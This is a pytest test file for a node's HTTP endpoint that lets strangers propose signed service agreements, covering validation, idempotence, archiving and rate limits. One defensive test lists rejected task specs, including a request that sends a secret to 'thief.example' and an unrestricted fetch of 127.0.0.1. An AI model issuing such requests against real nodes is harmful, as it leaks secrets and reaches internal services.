"""Service agreements over HTTP."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from typing import Any

import pytest
from eth_account import Account
from eth_account.messages import encode_defunct

from adyton.domain.evm import checksum
from adyton.domain.times import rfc3339
from adyton.web.settings import WebSettings
from support.api import Api, details
from support.builders import LINK, NOW, SENDER
from support.outgoing import SENDER as SIGNER

ON = {"FEATURE_SERVICE_AGREEMENTS": "true", "MINIMUM_CONTRACT_PAYMENT": str(LINK)}
OTHER = "0xa0788FC17B1dEe36f057c42B6F373A34B014687e"
COORDINATOR = "0x356a04bce728ba4c62a30294a55e6a8600a320b3"
HOUR = 3600 * 1_000_000


@pytest.fixture
async def api() -> AsyncIterator[Api]:
    async with Api(environment=ON) as opened:
        yield opened


def proposal(**changed: Any) -> dict[str, Any]:
    """An agreement that this node makes."""
    wanted: dict[str, Any] = {
        "initiators": [{"type": "execagreement"}],
        "tasks": [{"type": "noop"}],
        "payment": str(LINK),
        "expiration": 300,
        "endAt": rfc3339(NOW + HOUR),
        "oracles": [checksum(SENDER), OTHER],
    }
    return wanted | changed


async def agree(api: Api, body: Any = None, status: int = 200) -> Any:
    """Propose as somebody who is not logged in."""
    stranger = api.another_client()
    body = proposal() if body is None else body
    content = {"content": body} if isinstance(body, str) else {"json": body}
    response = await stranger.post("/v2/service_agreements", **content)
    assert response.status_code == status, response.text
    return response.json()


async def test_an_agreement_is_made_by_a_stranger_and_signed(api: Api) -> None:
    made = (await agree(api))["data"]
    shown = made["attributes"]
    assert made["type"] == "service_agreements"
    assert made["id"] == shown["id"]
    assert shown["encumbrance"] == {
        "payment": str(LINK),
        "expiration": 300,
        "endAt": rfc3339(NOW + HOUR),
        "oracles": [checksum(SENDER), OTHER],
    }
    assert '"expiration":3.000000e+02' in shown["requestBody"]
    assert shown["JobSpec"]["id"] == shown["jobSpecId"]
    assert shown["JobSpec"]["initiators"][0]["type"] == "execagreement"
    signature = bytes.fromhex(shown["signature"][2:])
    assert (len(signature), signature[64] in (27, 28)) == (65, True)
    signed = encode_defunct(bytes.fromhex(shown["id"][2:]))
    assert Account.recover_message(signed, signature=signature).lower() == SIGNER


async def test_the_job_takes_requests_under_the_agreement_that_pay_what_was_agreed(api: Api) -> None:
    made = (await agree(api, proposal(payment=str(2 * LINK))))["data"]
    job = api.parts.jobs.jobs[made["attributes"]["jobSpecId"]]
    (initiator,) = job.initiators
    assert (initiator.agreement, job.min_payment) == (made["id"], 2 * LINK)


async def test_no_stranger_has_old_blocks_read_again(api: Api) -> None:
    api.intake.height = 100
    await agree(api, proposal(initiators=[{"type": "execagreement", "params": {"fromBlock": 0}}]))
    assert api.intake.woken == 0
    assert await api.db.read("SELECT id FROM rereads") == []


async def test_the_job_listens_to_the_coordinator_of_the_settings() -> None:
    async with Api(environment={**ON, "COORDINATOR_CONTRACT_ADDRESS": COORDINATOR}) as api:
        made = (await agree(api))["data"]
        (initiator,) = api.parts.jobs.jobs[made["attributes"]["jobSpecId"]].initiators
        assert initiator.address == COORDINATOR
        elsewhere = [{"type": "execagreement", "params": {"address": SENDER}}]
        (detail,) = details(await agree(api, proposal(initiators=elsewhere), 422))
        assert detail.endswith(f"this node takes requests under agreements from {COORDINATOR} only")


async def test_the_same_proposal_gives_the_same_agreement(api: Api) -> None:
    first = await agree(api)
    spelled_otherwise = json.dumps(dict(reversed(proposal().items())), indent=2)
    assert await agree(api, spelled_otherwise) == first
    assert len(api.parts.jobs.jobs) == 1


async def test_the_same_proposal_many_times_at_once_gives_one_agreement(api: Api) -> None:
    found = await asyncio.gather(*(agree(api) for _ in range(5)))
    assert len({each["data"]["attributes"]["signature"] for each in found}) == 1
    assert len(api.parts.jobs.jobs) == 1


async def test_an_archived_agreement_is_not_made_again_from_outside(api: Api) -> None:
    made = (await agree(api))["data"]
    await api.client.delete(f"/v2/specs/{made['attributes']['jobSpecId']}")
    (detail,) = details(await agree(api, status=409))
    assert detail.startswith(f"agreement {made['id']} has ended here")
    assert api.parts.jobs.jobs == {}


async def test_an_agreement_is_shown_as_it_was_proposed(api: Api) -> None:
    made = (await agree(api))["data"]
    response = await api.client.get(f"/v2/service_agreements/{made['id'].upper().replace('X', 'x')}")
    assert response.json()["data"]["id"] == made["id"]
    assert f'"attributes":{made["attributes"]["requestBody"]}' in response.text
    assert (await api.another_client().get(f"/v2/service_agreements/{made['id']}")).status_code == 401
    assert details(await api.get("/v2/service_agreements/0x00", 404)) == ["ServiceAgreement not found"]


async def test_without_the_feature_nothing_is_agreed_to() -> None:
    async with Api() as api:
        said = "Service Agreements are currently under development and not yet usable outside of development mode"
        assert details(await agree(api, status=405))[0] == said


async def test_a_node_without_keys_agrees_to_nothing(api: Api) -> None:
    api.keys.held = ()
    assert details(await agree(api, status=422)) == ["No Ethereum Accounts configured"]


@pytest.mark.parametrize(
    ("body", "pointer", "detail"),
    [
        ("", None, "the body is not JSON"),
        ("{} {}", None, "the body is not JSON"),
        ("[]", None, "the body must be a JSON object, not an array"),
        (proposal(payment=5), "/payment", "payment must be juels in a string"),
        (proposal(payment="5"), "/payment", "Service agreement encumbrance error: Payment amount is below minimum 1.0"),
        (proposal(oracles=[OTHER]), "/oracles", "Service agreement encumbrance error: This node must be listed"),
        (
            proposal(tasks=[{"type": "nope"}]),
            "/tasks/0",
            "Service agreement job spec error: Job spec validation: nope is not a supported adapter type",
        ),
        (
            proposal(initiators=[{"type": "web"}]),
            "/initiators",
            "Service agreement job spec error: Job spec validation: an agreement's job has one initiator",
        ),
        (
            proposal(endAt=rfc3339(NOW - 1_000_000)),
            "/endAt",
            (
                "Service agreement encumbrance error: endAt value of 2023-11-14 22:13:19 +0000 UTC is too soon. "
                "Earliest allowed date is 2023-11-14 22:13:20 +0000 UTC"
            ),
        ),
    ],
)
async def test_what_the_node_does_not_agree_to_is_told_with_its_place(
    api: Api, body: Any, pointer: str | None, detail: str
) -> None:
    first = (await agree(api, body, 422))["errors"][0]
    assert first["detail"].startswith(detail)
    assert first.get("source", {}).get("pointer") == pointer
    assert api.parts.jobs.jobs == {}


@pytest.mark.parametrize(
    ("task", "pointer", "detail"),
    [
        ({"type": "httpget", "params": {"get": "https://thief.example/$(secret:KEY)"}}, "/tasks/0/params", "may name secrets"),
        ({"type": "nooppend"}, "/tasks/0/type", "may have tasks of type nooppend"),
        ({"type": "ethtx", "params": {"gasPrice": 10**15}}, "/tasks/0/params/gasPrice", "may say gasPrice to ethtx"),
        ({"type": "EthTx", "params": {"Address": OTHER}}, "/tasks/0/params/Address", "may say Address to ethtx"),
        (
            {"type": "httpgetwithunrestrictednetworkaccess", "params": {"get": "http://127.0.0.1/"}},
            "/tasks/0/type",
            "may have tasks of type httpgetwithunrestrictednetworkaccess",
        ),
    ],
)
async def test_a_stranger_may_have_the_node_do_only_what_harms_nobody(
    api: Api, task: dict[str, Any], pointer: str, detail: str
) -> None:
    (fault,) = (await agree(api, proposal(tasks=[task]), 422))["errors"]
    assert fault["detail"].endswith(f"Job spec validation: only a job that the operator creates {detail}")
    assert fault["source"]["pointer"] == pointer


async def test_an_operator_who_is_logged_in_may_have_it_do_more(api: Api) -> None:
    await api.post("/v2/service_agreements", proposal(tasks=[{"type": "nooppend"}]))
    assert len(api.parts.jobs.jobs) == 1


async def test_a_proposal_with_another_jobs_id_makes_a_job_of_its_own(api: Api) -> None:
    taken = "4c7b7ffb66b344fbaa64995af81e355a"
    made = (await agree(api, proposal(externalJobID=taken)))["data"]
    assert made["attributes"]["jobSpecId"] != taken


async def test_strangers_propose_as_often_as_they_may_log_in_and_no_more() -> None:
    async with Api(environment=ON, settings=WebSettings(login_limit=2)) as api:
        stranger = api.another_client("203.0.113.7")
        statuses = [(await stranger.post("/v2/service_agreements", content="{")).status_code for _ in range(3)]
        assert statuses == [422, 422, 429]
